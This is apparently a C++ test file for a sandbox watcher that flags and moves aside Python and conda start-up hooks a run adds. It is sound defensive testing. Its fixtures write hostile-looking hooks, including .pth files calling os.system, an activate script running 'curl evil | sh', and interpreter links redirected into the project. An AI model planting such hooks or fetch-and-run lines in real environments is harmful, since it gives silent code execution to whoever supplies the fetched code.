// Toolchains' start-up hooks after a run (toolchain_watch.cc), on a virtual environment's shape.
#include "gate/tree_fixture.h"

namespace paddock::gate {
namespace {

class ToolchainWatchTest : public TreeFixtureOf<WalkParam> {
 protected:
  // A virtual environment as `python3 -m venv --without-pip` makes it.
  void venv(const std::string& rel) const {
    write(rel + "/pyvenv.cfg", "home = /usr/bin\ninclude-system-site-packages = false\nversion = 3.11.2\n");
    mkdir(rel + "/bin");
    link("/usr/bin/python3", rel + "/bin/python3");
    link("python3", rel + "/bin/python");
    write(rel + "/bin/activate", "# activate\n");
    mkdir(rel + "/" + kSite);
  }
  static constexpr const char* kSite = "lib/python3.11/site-packages";
  std::string site(const std::string& rel) const { return rel + "/" + kSite; }
};

TEST_P(ToolchainWatchTest, AnEnvironmentThatWasThereIsLeftAlone) {
  venv(".venv");
  write(site(".venv") + "/helper.pth", "import helpermod\n");
  write(site(".venv") + "/helpermod.py", "pass\n");
  tick();
  TreeWatch w = watch();
  write(site(".venv") + "/pkg/__init__.py", "x = 1\n");  // pip install of a package: the user's to run
  write(site(".venv") + "/paths.pth", "/some/dir\n");    // an editable install's path line
  EXPECT_EQ(after(w), Paths{});
}

TEST_P(ToolchainWatchTest, StartUpHooksTheRunAddedAreMovedAside) {
  venv(".venv");
  write(site(".venv") + "/helper.pth", "import helpermod\n");
  write(site(".venv") + "/helpermod.py", "pass\n");
  write(site(".venv") + "/_hack/__init__.py", "pass\n");
  write(site(".venv") + "/distutils-precedence.pth", "import os; __import__('_hack').add_shim()\n");
  write(site(".venv") + "/__pycache__/helpermod.cpython-311.pyc", "old");
  tick();
  TreeWatch w = watch();
  write(site(".venv") + "/evil.pth", "import os; os.system('touch /tmp/x')\n");
  write(site(".venv") + "/sitecustomize.py", "import os\n");
  write(site(".venv") + "/helpermod.py", "import os; os.system('touch /tmp/x')\n");
  write(site(".venv") + "/_hack/__init__.py", "import os\n");
  write(site(".venv") + "/__pycache__/helpermod.cpython-311.pyc", "new");
  write("src/usercustomize.py", "import os\n");
  const std::string s = site(".venv") + "/";
  EXPECT_EQ(after(w), (Paths{s + "__pycache__/helpermod.cpython-311.pyc", s + "_hack/__init__.py", s + "evil.pth",
                             s + "helpermod.py", s + "sitecustomize.py", "src/usercustomize.py"}));
}

TEST_P(ToolchainWatchTest, TheInterpreterAndItsConfiguration) {
  venv(".venv");
  tick();
  TreeWatch w = watch();
  ASSERT_EQ(::unlink((root_ + "/.venv/bin/python").c_str()), 0);
  write(".venv/bin/python", "#!/bin/sh\nexec /usr/bin/python3 \"$@\"\n");  // a script in its place
  write(".venv/bin/activate", "# activate\ncurl evil | sh\n");
  write(".venv/pyvenv.cfg", "home = " + root_ + "/fake/bin\n");  // the standard library from the project
  EXPECT_EQ(after(w), (Paths{".venv/bin/activate", ".venv/bin/python", ".venv/pyvenv.cfg"}));
}

// An environment the run made (python3 -m venv, uv venv): links to an interpreter outside the
// writable areas and a pyvenv.cfg naming one are how they are made, and stay; the activation
// scripts and the .pth files with import lines are moved aside.
TEST_P(ToolchainWatchTest, AnEnvironmentTheRunMade) {
  tick();
  TreeWatch w = watch();
  venv("env");
  write(site("env") + "/_virtualenv.pth", "import _virtualenv\n");
  write(site("env") + "/_virtualenv.py", "pass\n");
  link(root_ + "/env/evil", "env/bin/python3.11");  // a link into the project: not an interpreter of the host's
  EXPECT_EQ(after(w), (Paths{"env/bin/activate", "env/bin/python3.11", site("env") + "/_virtualenv.pth"}));
}

TEST_P(ToolchainWatchTest, CondaEnvironments) {
  mkdir("c/conda-meta");
  tick();
  TreeWatch w = watch();
  write("c/bin/python3", "ELF");
  write("c/etc/conda/activate.d/x.sh", "evil\n");
  EXPECT_EQ(after(w), (Paths{"c/bin/python3", "c/etc/conda/activate.d/x.sh"}));
}

INSTANTIATE_TEST_SUITE_P(, ToolchainWatchTest, ::testing::Values(Walk::Full, Walk::Indexed), walk_name);

}  // namespace
}  // namespace paddock::gate
